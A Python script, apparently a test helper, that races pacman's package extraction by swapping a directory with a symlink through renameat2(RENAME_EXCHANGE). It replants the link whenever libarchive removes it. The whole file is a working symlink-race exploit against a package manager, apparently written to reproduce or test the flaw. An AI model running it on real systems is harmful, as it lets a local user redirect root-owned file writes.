#!/usr/bin/env python3
# exchange-racer.py ROOT DONE A B: once a file appears in ROOT/A, exchange
# ROOT/A and ROOT/B with renameat2(RENAME_EXCHANGE) as fast as possible
# until ROOT/DONE exists (pacman wrote its database entry) or the lock is
# gone again, 60 s at most; plants B again whenever neither A nor B is a
# symlink any more.  Prints the
# number of exchanges on stderr.
import ctypes
import os
import platform
import sys
import time

root, done, a, b = sys.argv[1:5]
libc = ctypes.CDLL(None, use_errno=True)
SYS_renameat2 = {"x86_64": 316, "aarch64": 276}[platform.machine()]
AT_FDCWD = -100
RENAME_EXCHANGE = 2
pa, pb = os.path.join(root, a).encode(), os.path.join(root, b).encode()
lock = os.path.join(root, "var/lib/pacman/db.lck")
deadline = time.time() + 60

def exchange():
    return libc.syscall(SYS_renameat2, AT_FDCWD, pa, AT_FDCWD, pb, RENAME_EXCHANGE) == 0

# wait for the extraction to begin
while time.time() < deadline:
    try:
        if os.path.isdir(os.path.join(root, a)) and os.listdir(os.path.join(root, a)):
            break
    except OSError:
        pass
    time.sleep(0.001)

def replant():
    # libarchive unlinks a symlink it finds in a path (ARCHIVE_EXTRACT_UNLINK)
    # and makes a directory there: plant a new link, as an attacker would
    if os.path.islink(pa) or os.path.islink(pb):
        return 0
    os.rename(pb, pb + b".old%d" % n)
    os.symlink(target, pb)
    return 1

target = os.readlink(pb)
n = replants = 0
while time.time() < deadline:
    try:
        replants += replant()
    except OSError:
        pass
    for _ in range(50):
        if exchange():
            n += 1
    if os.path.exists(os.path.join(root, done)) or not os.path.exists(lock):
        break
if n % 2:
    exchange()
    n += 1
print("exchange-racer: %d exchanges, %d links planted again" % (n, replants),
      file=sys.stderr)
